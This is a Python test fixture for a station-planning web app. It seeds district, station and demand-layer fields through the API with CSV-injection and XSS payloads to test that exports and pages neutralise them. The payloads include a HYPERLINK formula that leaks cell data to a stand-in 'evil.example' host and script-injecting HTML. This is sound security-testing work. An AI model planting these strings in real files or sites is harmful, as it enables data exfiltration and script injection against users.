"""A small town whose every free text is hostile: spreadsheet-formula and XSS payloads in
district names (zh and en), demand-layer units and station names/addresses, put in through the
API (PUT /api/v1/districts, PUT /api/v1/demand/{name}, POST /api/v1/stations).

The streets: three east-west streets (y = 0, 200, 400 m) 2 km long, joined every 200 m by
north-south streets (as in test_planner_page). Six districts are 400 m strips side by side.
`hostile_database()` builds the same town, committed, in its own database (once per process)
for what runs outside a test's transaction: the command line, uvicorn and the browser.
"""

from __future__ import annotations

import csv
import functools
import io
import json
import math
import re
import tempfile
from itertools import pairwise
from pathlib import Path
from typing import Any

from fastapi.testclient import TestClient
from sqlalchemy.engine import Connection

from app.config import Settings
from app.db import migrate
from app.db.engine import make_engine
from app.main import create_app
from tests.conftest import ADMIN_TOKEN, AUTH, fresh_database
from tests.factories import feature
from tests.test_network_api import east, line, load, north

#: OWASP's CSV-injection starts: =, +, -, @, tab, carriage return.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
)
XSS = ("<img src=x onerror=window.__xss=1>", '"><script>window.__xss=1</script>')
#: (code, zh name, en name, west, east in metres): every payload is a name in both languages.
DISTRICTS = (
    ("420102", FORMULAS[0], FORMULAS[4], -300, 333),
    ("420103", FORMULAS[1], FORMULAS[5], 333, 666),
    ("420104", FORMULAS[2], XSS[0], 666, 1000),
    ("420105", FORMULAS[3], XSS[1], 1000, 1333),
    ("420106", XSS[0], FORMULAS[0], 1333, 1666),
    ("420107", XSS[1], FORMULAS[3], 1666, 2300),
)
#: Stations (x, y in metres, name, address): open around the clock, so every page shows them.
STATIONS = (
    (200, 0, XSS[0], XSS[1]),
    (600, 200, XSS[1], XSS[0]),
    (1000, 400, FORMULAS[0], FORMULAS[2]),
    (1800, 400, "江汉路驿站", "江汉路1号"),
)
PARAMS = {"minutes": "5", "resolution": "9"}
_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?([eE][-+]?[0-9]+)?")


def streets() -> list[dict[str, Any]]:
    feats = []
    xs = list(range(0, 2001, 200))
    for y in (0, 200, 400):
        feats += [line([(east(a), north(y)), (east(b), north(y))]) for a, b in pairwise(xs)]
    for x in xs:
        feats += [
            line([(east(x), north(a)), (east(x), north(b))]) for a, b in ((0, 200), (200, 400))
        ]
    return feats


def district_collection() -> dict[str, Any]:
    feats = []
    for code, name, name_en, w, e in DISTRICTS:
        ring = [
            [east(w), north(-300)],
            [east(e), north(-300)],
            [east(e), north(700)],
            [east(w), north(700)],
            [east(w), north(-300)],
        ]
        feats.append(
            {
                "type": "Feature",
                "geometry": {"type": "Polygon", "coordinates": [ring]},
                "properties": {"code": code, "name": name, "name_en": name_en},
            }
        )
    return {"type": "FeatureCollection", "features": feats}


def demand_csv() -> bytes:
    rows = ["lon,lat,weight"]
    for x in range(0, 2001, 200):
        for y in (0, 200, 400):
            rows.append(f"{east(x)},{north(y)},{1 + x // 200}")
    return ("\n".join(rows) + "\n").encode()


def put_demand(client: Any, name: str, unit: str) -> Any:
    return client.put(
        f"/api/v1/demand/{name}",
        content=demand_csv(),
        params={"unit": unit},
        headers={"Content-Type": "text/csv", **AUTH},
    )


def populate(client: Any) -> dict[str, str]:
    """Districts, stations and demand layers through the API (the road network must be
    loaded already). Returns {layer name: unit} of the demand layers the API accepted; every
    refused unit was refused with a 4xx naming `unit`."""
    r = client.put(
        "/api/v1/districts",
        content=json.dumps(district_collection()),
        headers={"Content-Type": "application/geo+json", **AUTH},
    )
    assert r.status_code == 200, r.text
    for i, (x, y, name, address) in enumerate(STATIONS):
        f = feature(
            f"HOSTILE-{i}",
            lon=east(x),
            lat=north(y),
            name=name,
            address=address,
            opening_hours="24/7",
        )
        r = client.post("/api/v1/stations", json=f, headers=AUTH)
        assert r.status_code == 201, r.text
    layers = {}
    for i, unit in enumerate((*FORMULAS, *XSS)):
        r = put_demand(client, f"evil{i}", unit)
        if r.status_code >= 400:
            assert 400 <= r.status_code < 500 and "unit" in r.json()["detail"], r.text
            continue
        assert r.status_code in (200, 201), r.text
        layers[f"evil{i}"] = unit
    return layers


def build_in(conn: Connection, client: Any, tmp: Path) -> dict[str, str]:
    """The town inside a test's transaction (`conn`, `client` from conftest)."""
    load(conn, tmp, streets())
    return populate(client)


@functools.cache
def hostile_database() -> tuple[str, tuple[tuple[str, str], ...]]:
    """(URL, demand layers) of a database holding the town, committed (built once)."""
    url = fresh_database("hostile")
    migrate.upgrade(url)
    settings = Settings(database_url=url, admin_token=ADMIN_TOKEN, hours_auto_refresh=False)
    engine = make_engine(settings)
    try:
        with tempfile.TemporaryDirectory() as tmp, engine.begin() as conn:
            load(conn, Path(tmp), streets())
    finally:
        engine.dispose()
    with TestClient(create_app(settings)) as client:
        layers = populate(client)
    return url, tuple(layers.items())


def read_csv(text: str) -> list[list[str]]:
    """A CSV file as our writer makes it: a BOM, then rows read by Python's csv module."""
    assert text.startswith("\ufeff"), "a BOM for Excel/WPS"
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def formula_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would take as a formula: starting with =, +, -, @, tab or CR,
    unless the cell is a plain decimal number."""
    bad = []
    for row in rows:
        for c in row:
            if c[:1] in ("=", "+", "-", "@", "\t", "\r"):
                is_number = _NUMBER.fullmatch(c) is not None and math.isfinite(float(c))
                if not is_number:
                    bad.append(c)
    return bad
